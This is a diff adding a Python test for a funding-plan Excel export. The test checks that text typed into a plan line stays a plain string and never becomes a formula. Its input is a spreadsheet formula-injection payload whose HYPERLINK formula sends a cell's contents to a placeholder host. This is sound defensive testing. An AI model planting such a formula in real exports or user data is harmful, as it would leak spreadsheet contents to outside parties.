@@ -376,3 +376,14 @@ def test_r_conv_04_volet3_ceiling_only_for_selected_territories(client, make_use
     Volet3Selection.objects.create(collectivity=ain, year=2024)
     client.post(reverse("funding:ceiling_set"), data)
     assert Ceiling.objects.get(volet=3).amount == D("500000.00")
+
+
+def test_text_typed_in_the_plan_never_becomes_a_formula_in_the_workbook(good_plan):
+    line = PlanLine.objects.get(purpose="Ateliers")
+    line.purpose = '=HYPERLINK("http://exemple.invalid/?"&A1,"Voir")'
+    line.save()
+    data = excel.export_plan(good_plan, list(PlanLine.objects.filter(convention=good_plan)), {})
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheet = archive.read("xl/worksheets/sheet2.xml").decode()
+    assert "HYPERLINK" in sheet and "<f>HYPERLINK" not in sheet
+    assert load_workbook(io.BytesIO(data))["Volet 2"]["C11"].data_type == "s"
